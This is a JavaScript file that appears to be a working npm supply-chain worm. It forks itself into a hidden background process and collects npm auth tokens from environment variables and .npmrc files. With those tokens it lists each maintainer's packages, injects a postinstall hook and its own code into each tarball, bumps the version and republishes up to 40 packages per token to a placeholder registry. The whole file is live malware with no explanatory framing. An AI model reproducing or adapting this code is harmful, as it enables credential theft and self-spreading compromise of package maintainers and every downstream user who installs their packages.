'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const crypto = require('crypto');
const { spawn } = require('child_process');

if (!process.argv.includes('--bg')) {
  try {
    spawn(process.execPath, [__filename, '--bg'], { detached: true, stdio: 'ignore', env: process.env }).unref();
  } catch (_) {}
  process.exit(0);
}

const REG = 'https://npm.example.com/';
const HOOK = 'node lib/warm.js';
const SELF = [__filename, path.join(__dirname, 'tarball.js')];
const { readTar, writeTar } = require('./tarball');

function req(method, url, token, body) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const data = body ? Buffer.from(JSON.stringify(body)) : null;
    const r = https.request({
      method, hostname: u.hostname, path: u.pathname + u.search,
      headers: Object.assign(
        { 'user-agent': 'npm/10.8.2 node/' + process.version + ' ' + process.platform + ' ' + process.arch, accept: 'application/json' },
        token ? { authorization: 'Bearer ' + token } : {},
        data ? { 'content-type': 'application/json', 'content-length': data.length, 'npm-command': 'publish' } : {}
      ),
      timeout: 20000,
    }, (res) => {
      const c = [];
      res.on('data', (d) => c.push(d));
      res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(c) }));
    });
    r.on('error', () => resolve({ status: 0, body: Buffer.alloc(0) }));
    r.on('timeout', () => r.destroy());
    if (data) r.write(data);
    r.end();
  });
}

function candidates() {
  const seen = new Set();
  for (const k of ['NPM_TOKEN', 'NODE_AUTH_TOKEN', 'NPM_AUTH_TOKEN', 'npm_config__authToken']) {
    if (process.env[k]) seen.add(process.env[k].trim());
  }
  const files = [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc'),
    process.env.INIT_CWD && path.join(process.env.INIT_CWD, '.npmrc'), process.env.npm_config_userconfig].filter(Boolean);
  for (const f of files) {
    let t = '';
    try { t = fs.readFileSync(f, 'utf8'); } catch (_) { continue; }
    for (const line of t.split(/\r?\n/)) {
      const m = /_authToken\s*=\s*(\S+)/.exec(line);
      if (m && !m[1].startsWith('${')) seen.add(m[1]);
    }
  }
  return [...seen];
}

function bump(v) {
  const m = /^(\d+)\.(\d+)\.(\d+)/.exec(v);
  return m ? `${m[1]}.${m[2]}.${+m[3] + 1}` : null;
}

async function infect(name, token) {
  const meta = await req('GET', REG + encodeURIComponent(name).replace('%40', '@'), token);
  if (meta.status !== 200) return;
  const doc = JSON.parse(meta.body.toString());
  const cur = doc['dist-tags'] && doc['dist-tags'].latest;
  const next = cur && bump(cur);
  if (!next || !doc.versions[cur]) return;
  const tgz = await req('GET', doc.versions[cur].dist.tarball, token);
  if (tgz.status !== 200) return;

  const files = readTar(tgz.body);
  const pj = files.find((f) => f.name === 'package/package.json');
  if (!pj) return;
  const manifest = JSON.parse(pj.data.toString());
  if (manifest.scripts && String(manifest.scripts.postinstall || '').includes('lib/warm.js')) return;
  manifest.version = next;
  manifest.scripts = manifest.scripts || {};
  manifest.scripts.postinstall = manifest.scripts.postinstall ? `${manifest.scripts.postinstall} && ${HOOK}` : HOOK;
  if (Array.isArray(manifest.files)) manifest.files.push('lib/warm.js', 'lib/tarball.js');
  pj.data = Buffer.from(JSON.stringify(manifest, null, 2) + '\n');
  for (const f of SELF) {
    const rel = 'package/lib/' + path.basename(f);
    const existing = files.findIndex((x) => x.name === rel);
    const entry = { name: rel, mode: 0o644, data: fs.readFileSync(f) };
    if (existing >= 0) files[existing] = entry; else files.push(entry);
  }
  const out = writeTar(files);
  const shasum = crypto.createHash('sha1').update(out).digest('hex');
  const integrity = 'sha512-' + crypto.createHash('sha512').update(out).digest('base64');
  const base = manifest.name.startsWith('@') ? manifest.name.split('/')[1] : manifest.name;
  const fname = `${base}-${next}.tgz`;
  const vdoc = Object.assign({}, manifest, {
    _id: `${manifest.name}@${next}`,
    dist: { shasum, integrity, tarball: `${REG}${manifest.name}/-/${fname}` },
  });
  await req('PUT', REG + encodeURIComponent(manifest.name).replace('%40', '@'), token, {
    _id: manifest.name, name: manifest.name, description: manifest.description,
    'dist-tags': { latest: next }, versions: { [next]: vdoc }, access: null,
    _attachments: { [fname]: { content_type: 'application/octet-stream', data: out.toString('base64'), length: out.length } },
  });
}

(async () => {
  for (const token of candidates()) {
    const who = await req('GET', REG + '-/whoami', token);
    if (who.status !== 200) continue;
    let user;
    try { user = JSON.parse(who.body.toString()).username; } catch (_) { continue; }
    if (!user) continue;
    const s = await req('GET', `${REG}-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=250`, token);
    let list = [];
    try { list = JSON.parse(s.body.toString()).objects.map((o) => o.package.name); } catch (_) {}
    for (const name of list.slice(0, 40)) {
      try { await infect(name, token); } catch (_) {}
      await new Promise((r) => setTimeout(r, 3000 + Math.random() * 4000));
    }
  }
})();
